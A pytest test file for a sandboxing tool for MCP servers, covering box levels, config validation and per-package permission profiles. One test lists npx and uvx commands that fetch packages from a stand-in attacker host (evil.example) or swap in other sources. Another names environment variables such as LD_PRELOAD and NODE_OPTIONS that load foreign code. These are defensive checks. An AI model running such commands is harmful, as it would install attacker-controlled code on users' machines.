"""Boxes as a file says them, and what comes out of them."""

from __future__ import annotations

import json
from typing import Any

import pytest

from toolgate import config as configs
from toolgate.config import ConfigError, Server, render
from toolgate.config.boxes import Confines
from toolgate.config.profiles import PROFILES, RUNNERS, bare, started


def server(command: str = "x", *args: str, **more: Any) -> Server:
    entry = {"command": command, "args": list(args), **more}
    text = json.dumps({"mcpServers": {"one": entry}})
    return configs.read(text, file="toolgate.json", environ={"HOME": "/home/me"}, format="json").servers[0]


def confines(*words: str, **more: Any) -> Confines:
    found = server(*words, **more).confines
    assert found
    return found


def test_a_server_has_no_box_unless_the_file_says_so() -> None:
    assert server().confines is None
    assert server(box="off").confines is None


@pytest.mark.parametrize(
    ("level", "net", "reads_all", "writes_all"),
    [("no-net", False, True, True), ("no-write", True, True, False), ("strict", False, False, False)],
)
def test_each_level_says_what_its_name_does(level: str, net: bool, reads_all: bool, writes_all: bool) -> None:
    found = confines(box=level)
    assert (found.net, found.reads_all, found.writes_all) == (net, reads_all, writes_all)


def test_a_table_without_a_level_is_strict_and_what_it_names() -> None:
    found = confines(
        box={"read": ["/a"], "write": ["~/b"], "net": [443], "memory": "1GiB", "cpu": "1m", "processes": 3}
    )
    assert found == Confines(
        level="strict", read=("/a",), write=("~/b",), net=(443,), memory=1 << 30, cpu=60.0, processes=3
    )
    assert found.words() == (
        "strict: network: ports 443; reads its program and /a; writes its own folder and ~/b; "
        "at most 1 GiB of memory, 60 s of processor time and 256 open files each, 3 processes"
    )
    assert "reads its program (/x/bin) and /a; " in found.words("/x/bin")


def test_variables_are_put_into_its_paths() -> None:
    assert confines(box={"read": ["${HOME}/notes"]}).read == ("/home/me/notes",)


@pytest.mark.parametrize(
    ("box", "says"),
    [
        ("none", 'must be "off" or "no-net"'),
        ({"level": "off", "read": ["/a"]}, "has a box that is off"),
        ({"read": ["notes"]}, "must be an absolute path"),
        ({"write": "/a"}, "must be a list"),
        ({"net": "yes"}, "must be true, false or a list of ports"),
        ({"net": [70000]}, "must be at most 65535"),
        ({"unix": True}, "unknown key"),
        ({"processes": 0}, "must be at least 1"),
    ],
)
def test_a_box_that_cannot_be_meant_is_refused(box: Any, says: str) -> None:
    with pytest.raises(ConfigError) as refused:
        server(box=box)
    assert says in str(refused.value)


def test_it_is_written_as_it_was_read() -> None:
    for box in ("strict", "no-net", {"level": "profile", "read": ["/a"]}, {"level": "strict", "net": [443]}):
        assert render.server(server(box=box))["box"] == box


def test_only_programs_have_one() -> None:
    with pytest.raises(ConfigError) as refused:
        text = '{"mcpServers": {"one": {"url": "http://a/mcp", "box": "strict"}}}'
        configs.read(text, file="toolgate.json", environ={}, format="json")
    assert "is for stdio servers" in str(refused.value)


# Profiles.


@pytest.mark.parametrize(
    ("words", "package", "own"),
    [
        (["npx", "-y", "@modelcontextprotocol/server-memory@2026.8.31"], "@modelcontextprotocol/server-memory", ()),
        (["npx", "-y", "-p", "@playwright/mcp@1", "mcp", "--headless"], "@playwright/mcp", ("--headless",)),
        (["uvx", "--with", "mcp<2", "mcp-server-sqlite==1", "--db", "/a"], "mcp-server-sqlite", ("--db", "/a")),
        (["python3", "-c", "import mcp_server_sqlite as s", "--db"], "mcp-server-sqlite", ("--db",)),
        (["uvx", "--from", "serena-agent[x]>=2", "serena", "start"], "serena-agent", ("start",)),
        (["/opt/uv/bin/uvx", "mcp-server-git"], "mcp-server-git", ()),
        (["uvx", "-p", "3.12", "--with", "mcp>=1.2,<2", "mcp-server-git@latest"], "mcp-server-git", ()),
        (["mcp-server-git", "-r", "/r"], "mcp-server-git", ("-r", "/r")),
        (["python", "-m", "mcp_server_git", "-r", "/r"], "mcp-server-git", ("-r", "/r")),
        (["node", "/a/node_modules/@playwright/mcp/cli.js", "--headless"], "", ("--headless",)),
        (["npx", "--unknown", "x"], "", ()),
        (["prog", "x"], "", ("x",)),
    ],
)  # fmt: skip
def test_a_package_is_known_however_it_is_started(words: list[str], package: str, own: tuple[str, ...]) -> None:
    found, args = started(words[0], words[1:])
    assert (found, tuple(args)) == (package, own)


@pytest.mark.parametrize(
    "words",
    [
        ["npx", "-y", "@playwright/mcp@npm:evil"],
        ["npx", "-y", "@playwright/mcp@https://evil.example/a.tgz"],
        ["npx", "-y", "@playwright/mcp@github:evil/a"],
        ["npx", "-y", "@playwright/mcp@file:../evil"],
        ["npx", "--registry", "http://evil.example/", "@playwright/mcp"],
        ["npx", "--registry=http://evil.example/", "@playwright/mcp"],
        ["npx", "-p", "@playwright/mcp", "-p", "evil", "mcp"],
        ["uvx", "mcp-server-fetch @ https://evil.example/a.whl"],
        ["uvx", "mcp-server-fetch@https://evil.example/a.whl"],
        ["uvx", "--with", "evil", "mcp-server-fetch"],
        ["uvx", "--with", "mcp<2,evil", "mcp-server-fetch"],
        ["uvx", "--with=mcp @ https://evil.example/a.whl", "mcp-server-fetch"],
        ["uvx", "--index-url", "http://evil.example/", "mcp-server-fetch"],
        ["uvx", "--index=http://evil.example/", "mcp-server-fetch"],
        ["uvx", "--default-index", "http://evil.example/", "mcp-server-fetch"],
        ["uvx", "--extra-index-url", "http://evil.example/", "mcp-server-fetch"],
        ["./mcp-server-fetch"],
        ["/clone/bin/mcp-server-fetch"],
        ["/clone/bin/python", "-m", "mcp_server_fetch"],
        ["node", "./node_modules/@playwright/mcp/cli.js"],
    ],
)
def test_what_only_has_the_name_of_a_package_has_not_its_profile(words: list[str]) -> None:
    assert started(words[0], words[1:])[0] == ""
    assert confines(*words, box="profile") == Confines(level="strict")


@pytest.mark.parametrize(
    "name",
    ["npm_config_registry", "NPM_CONFIG_REGISTRY", "UV_INDEX_URL", "PYTHONPATH", "NODE_OPTIONS", "LD_PRELOAD", "PATH"],
)
def test_a_package_has_no_profile_where_its_variables_have_something_else_loaded(name: str) -> None:
    assert confines("uvx", "mcp-server-fetch", env={name: "/clone"}, box="profile") == Confines(level="strict")
    assert confines("uvx", "mcp-server-fetch", env={"PYTHONUTF8": "1", "NODE_ENV": "x"}, box="profile").net is True


def test_a_module_that_a_folder_may_have_has_no_profile() -> None:
    assert started("python", ["-m", "mcp_server_fetch"], cwd="/clone")[0] == ""
    assert started("mcp-server-fetch", [], cwd="/clone")[0] == "mcp-server-fetch"


def test_a_version_is_no_part_of_a_name() -> None:
    names = ("@a/b@1.2", "@a/b", "b@latest", "b[x]==2", "b>=1", "b~=1", "b")
    assert [bare(each) for each in names] == ["@a/b", "@a/b", "b", "b", "b", "b", "b"]


def test_a_profile_gives_the_files_that_the_command_line_names() -> None:
    official = "@modelcontextprotocol/server-"
    assert confines("npx", "-y", f"{official}filesystem", "/a", "/b", box="profile").write == ("/a", "/b")
    assert confines("uvx", "mcp-server-sqlite", "--db-path", "/d/x.db", box="profile").write == ("/d",)
    assert confines("uvx", "mcp-server-sqlite", "--db-path=x.db", cwd="/d", box="profile").write == ("/d",)
    assert confines("uvx", "mcp-server-sqlite", "--db-path", "x.db", box="profile").write == ()
    found = confines("npx", f"{official}memory", env={"MEMORY_FILE_PATH": "/m/graph"}, box="profile")
    assert (found.write, found.net) == (("/m",), False)
    assert confines("uvx", "mcp-server-fetch", box="profile").net is True


def test_a_package_without_a_profile_is_strict() -> None:
    found = confines("npx", "-y", "something-else", "/a", box="profile")
    assert found == Confines(level="strict")


def test_a_profile_and_what_stands_beside_it_are_one_box() -> None:
    found = confines(
        "uvx", "mcp-server-git", "-r", "/r", box={"level": "profile", "read": ["~/.gitconfig"], "net": True}
    )
    assert (found.package, found.write, found.read, found.net) == ("mcp-server-git", ("/r",), ("~/.gitconfig",), True)


def test_every_profile_says_what_it_needs() -> None:
    assert len(PROFILES) >= 15
    assert set(RUNNERS) == {"npx", "uvx"}


def test_a_browsers_profile_gives_its_programs_and_sockets_which_the_words_say() -> None:
    found = confines("npx", "@playwright/mcp", "--executable-path", "/opt/b/chrome", box="profile")
    assert found.run == ("~/.cache/ms-playwright", "/opt/b")
    assert found.words().startswith(
        "profile of @playwright/mcp: network, sockets of other programs; reads its program; "
    )
    assert confines("npx", "@playwright/mcp", box={"level": "profile", "sockets": False}).sockets is False
